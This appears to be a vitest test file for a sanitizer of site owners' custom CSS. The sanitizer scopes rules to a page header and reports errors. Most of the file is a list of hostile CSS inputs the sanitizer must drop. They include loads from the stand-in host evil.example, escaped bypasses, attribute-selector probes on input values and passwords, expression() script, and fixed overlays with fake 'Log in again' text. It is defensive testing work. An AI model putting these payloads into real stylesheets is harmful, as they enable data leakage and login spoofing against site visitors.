import { describe, expect, it } from 'vitest'
import { sanitizeCss } from '@/lib/text/owner-css/sanitize-css'

const clean = (css: string) => sanitizeCss(css, '[data-site-header]').css

describe('an owner stylesheet', () => {
  it('holds for the part of the page it belongs to, also inside media queries', () => {
    expect(clean('.menu a, h1 > b { color: #333 }')).toBe(
      '[data-site-header] .menu a,[data-site-header] h1>b{color:#333}',
    )
    expect(clean('@media (width < 600px) { a { color: red } }')).toBe(
      '@media (width<600px){[data-site-header] a{color:red}}',
    )
    expect(clean('@keyframes turn { to { transform: rotate(1turn) } }')).toBe(
      '@keyframes own-turn{to{transform:rotate(1turn)}}',
    )
    expect(clean('@keyframes turn{to{opacity:0}} a{animation:turn 1s;animation-name:turn,ours}')).toBe(
      '@keyframes own-turn{to{opacity:0}}[data-site-header] a{animation:own-turn 1s;animation-name:own-turn,ours}',
    )
  })

  it('may show files of the site and small pictures written out', () => {
    expect(clean('a{background-image:url(/rc-pub/front/files/get?id=12)}')).toContain('get?id=12')
    expect(clean('a{background:url(data:image/png;base64,iVBORw0KGgo=)}')).toContain('data:image/png')
  })

  it.each([
    '@import url(https://evil.example/a.css);',
    '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
    '@namespace svg url(http://www.w3.org/2000/svg);',
    'a { background: url(https://evil.example/p) }',
    'a { background: URL("//evil.example/p") }',
    'a { background: u\\72l(https://evil.example/p) }',
    'a { background-image: image-set("https://evil.example/p" 1x) }',
    'a { --x: url(https://evil.example/p) }',
    'a { background: url(data:image/svg+xml;base64,PHN2Zz4=) }',
    'a { behavior: url(x.htc) }',
    'a { -moz-binding: url(x.xml#y) }',
    'a { width: expression(alert(1)) }',
    'a { position: fixed }',
    'a { position: sticky !important }',
    'a { position: absolute }',
    'a { z-index: 101 }',
    'a { content: "Log in again" }',
    'a { pointer-events: none }',
    'a { cursor: none }',
    'input[value^="a"] { color: red }',
    'body:has([name=password]) { color: red }',
    ':root { color: red }',
    '~ * { color: red }',
    '+ main { color: red }',
    '|| td { color: red }',
    'a /deep/ b { color: red }',
    ':h\\61s(a) { color: red }',
    ':R\\6fot { color: red }',
    ':is(:root, :host) { color: red }',
    ':not(:has(a)) { color: red }',
    '[v\\61lue^="a"] { color: red }',
    '[*|value^="a"] { color: red }',
    'a { background: \\75 rl("https://evil.example/p") }',
    'a { background: im\\61ge-set("https://evil.example/p" 1x) }',
    'a { p\\6fsition: fixed }',
    'a { position: f\\69xed }',
    'a { position: var(--own-x) }',
    'a { & ~ main { color: red } }',
    'a { ~ main { color: red } }',
    'a { @media all { ~ main { color: red } } }',
    'a { :root & { color: red } }',
    '@scope (body) to (p) { main { color: red } }',
    '@layer x { main { color: red } }',
    '@container (width > 0px) { main { color: red } }',
    '@starting-style { main { color: red } }',
    '@property --accent { syntax: "*"; inherits: true }',
    '@page { margin: 0 }',
    '@keyframes "turn" { to { color: red } }',
    '@m\\65 dia all { main { color: red } }',
    '& a { color: red }',
  ])('leaves out %s', (css) => {
    expect(clean(`${css} b { color: red }`).replace('[data-site-header] b{color:red}', '')).toMatch(
      /^(\[data-site-header\] a\{\})?$/,
    )
  })

  it('says where it cannot be read, and then gives nothing', () => {
    expect(sanitizeCss('a { color: red }\nb { color: ', 'x').css).not.toContain('evil')
    const { css, error } = sanitizeCss('a { color: red }\n}} b { color: red }', 'x')
    expect(css).toBe('')
    expect(error).toMatchObject({ line: 2 })
  })

  it('is bounded', () => {
    expect(sanitizeCss(' '.repeat(70_000), 'x').error).toMatchObject({ message: 'too large' })
    expect(sanitizeCss('a{}'.repeat(2001), 'x').error).toMatchObject({ message: 'too many rules' })
  })
})
